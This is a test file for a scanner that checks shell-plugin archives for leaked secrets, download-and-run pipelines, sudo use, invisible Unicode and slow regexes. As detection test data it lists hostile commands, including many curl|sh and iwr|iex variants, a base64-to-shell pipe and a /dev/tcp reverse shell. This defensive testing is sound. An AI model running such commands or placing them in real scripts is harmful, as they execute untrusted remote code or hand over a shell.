import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { commandCodes } from '@/lib/archive/scan/commands';
import { hasSuspicious } from '@/lib/archive/scan/invisible';

import { judge, packModule } from '../support/archives/judge';
import { SAMPLES } from '../support/archives/manifests';

const plugin = SAMPLES['shell-plugin'];
const scan = async (body: string, path = 'x.zsh') => {
  const report = await judge(packModule(plugin, { 'main.conf': 'x', [path]: body }));
  return report.findings.map(({ code, line }) => `${code}:${line}`);
};

const chars = 'aB3dE5gH7jK9mN1pQ4sT6vW8yZ0cF2iLoRuX';
/** A random-looking text of the wanted length; written so that no secret stands in this file. */
const noise = (length: number, alphabet = chars) =>
  Array.from({ length }, (_, index) => alphabet[(index * 7 + 3) % alphabet.length]).join('');

describe('secrets', () => {
  it.each([
    ['a private key', `-----BEGIN OPENSSH ${'PRIVATE'} KEY-----`],
    ['a PKCS #8 key', `-----BEGIN ${'PRIVATE'} KEY-----`],
    ['PGP', `-----BEGIN PGP ${'PRIVATE'} KEY BLOCK-----`],
    ['dotkit', `dk_${noise(40)}`],
    ['AWS', `AKIA${noise(16, 'A2B3C4D5E6F7GHIJ')}`],
    ['GitHub', `token=ghp_${noise(36)}`],
    ['GitHub, fine-grained', `github_pat_${noise(82)}`],
    ['GitLab', `glpat-${noise(20)}`],
    ['Slack', `xoxb-${noise(12, '1234567890')}-${noise(24)}`],
    ['npm', `//r.example/:_authToken=npm_${noise(36)}`],
    ['Stripe', `sk_live_${noise(24)}`],
    ['Google', `AIza${noise(35)}`],
    ['Anthropic', `export K="sk-ant-${noise(40)}"`],
  ])('%s', async (_, text) => {
    expect(await scan(`first\n${text}\n`)).toEqual(['secret:2']);
    expect(await scan(`# in a comment: ${text}`)).toEqual(['secret:1']);
    expect(await scan(text, 'README.md')).toEqual(['secret:1']);
  });

  it.each([
    'AKIAIOSFODNN7EXAMPLE',
    `ghp_${'x'.repeat(36)}`,
    'dk_short',
    'PUBLIC KEY-----',
    'npm_config_registry_of_this_machine_here',
    'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ',
  ])('%s is none', async (text) => expect(await scan(text)).toEqual([]));

  it('never repeats the secret', async () => {
    const secret = `ghp_${noise(36)}`;
    const report = await judge(packModule(plugin, { 'main.conf': secret }));
    expect(report.ok).toBe(false);
    expect(JSON.stringify(report.findings)).not.toContain(secret.slice(4, 20));
  });
});

describe('commands', () => {
  it.each([
    'curl -fsSL https://x.example/i.sh | sh',
    'curl x|bash -s -- --yes',
    'wget -qO- x | sudo -E bash -',
    'curl x | /bin/sh',
    'curl x | env python3 -',
    'sh -c "$(curl -fsSL x)"',
    'bash <(curl -s x)',
    'eval "$(wget -qO- x)"',
    'source <(curl x)',
    '. <(curl x)',
    'zsh -c "`curl x`"',
    'iwr x | iex',
    'iex (irm x)',
    'iex ((New-Object Net.WebClient).DownloadString("x"))',
  ])('%s runs what it downloads', (line) => expect(commandCodes(line)).toContain('remote-script'));

  it.each([
    'curl -o x https://x.example',
    'curl x | jq .',
    'curl x | tee shell.txt',
    'sh install.sh',
    'curl x > y; sh z',
    'alias curl="curl -s"',
    'echo x | sh; curl y',
    'curl x | grep sh',
    'curl x | shasum',
  ])('%s does not', (line) => expect(commandCodes(line)).toEqual([]));

  it('sees through line ends, comments and long lines', async () => {
    expect(await scan('a\ncurl -L \\\n  x \\\n  | sh\n')).toEqual(['remote-script:2']);
    expect(await scan('curl x |\nsh\n')).toEqual(['remote-script:1']);
    expect(await scan('# curl x | sh\n')).toEqual([]);
    expect(await scan('# hidden \\\ncurl x | sh\n')).toEqual(['remote-script:2']);
    for (const before of [4000, 4090, 8000, 100_000, 131_060, 262_140]) {
      expect(await scan(`${'a '.repeat(before / 2)}; curl x | sh`), `${before}`).toEqual(['remote-script:1']);
      expect(await scan(`${'a\n'.repeat(before / 2)}curl x \\\n| sh`), `${before}`).toEqual([
        `remote-script:${before / 2 + 1}`,
      ]);
    }
  });

  it.each([
    ['echo aGk= | base64 -d | sh', 'decoded-script'],
    ['bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'reverse-shell'],
    ['sudo make install', 'sudo'],
    ['doas -u root x', 'sudo'],
  ])('%s', async (line, code) => expect(await scan(line)).toContain(`${code}:1`));

  it.each(['plugins=(git sudo)', '[sudo]', 'sudo = true', 'my-sudo x', 'visudo -c'])(
    '%s is not run as root',
    (line) => {
      expect(commandCodes(line)).toEqual([]);
    },
  );

  it('prose that is not installed may speak of it', async () => {
    expect(await scan('curl x | sh\nsudo y\n', 'README.md')).toEqual([]);
    expect(await scan('curl x | sh\n', '.github/workflows/ci.yml')).toEqual([]);
  });
});

describe('invisible characters', () => {
  it.each([
    'a\u202eb',
    'a\u2066b',
    'x\u200by',
    'a\u{e0041}b',
    'a\u3164b',
    'user\u200dname',
    'mid\ufeffdle',
    'a\u00adb',
  ])('%j', (text) => expect(hasSuspicious(text)).toBe(true));

  it.each([
    '👩‍💻 ❤️ 🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}',
    'می‌خواهم',
    'ſtraße',
    '日本語',
    '\ue0b0 powerline',
  ])('%j is honest', (text) => expect(hasSuspicious(text)).toBe(false));

  it('a leading byte order mark is fine, the line is named', async () => {
    expect(await scan('\ufeffok\n')).toEqual([]);
    expect(await scan('one\ntwo\nthr\u202eee\n')).toEqual(['invisible-unicode:3']);
  });
});

describe('cost', () => {
  it('is linear in lines made to be slow', () => {
    const pieces = [
      'curl ',
      'sudo -a ',
      'sh "$(',
      '| ',
      'base64 -d ',
      'eval `',
      '-x '.repeat(5),
      ' '.repeat(30),
      'a'.repeat(90),
      '/',
    ];
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...pieces), { minLength: 100, maxLength: 400 }), (parts) => {
        const line = parts.join('').slice(0, 4096);
        // The best of three: other work on the machine must not fail this, a quadratic pattern always would.
        const rounds = [0, 1, 2].map(() => {
          const start = performance.now();
          commandCodes(line);
          return performance.now() - start;
        });
        expect(Math.min(...rounds)).toBeLessThan(50);
      }),
      { numRuns: 200 },
    );
  });
});
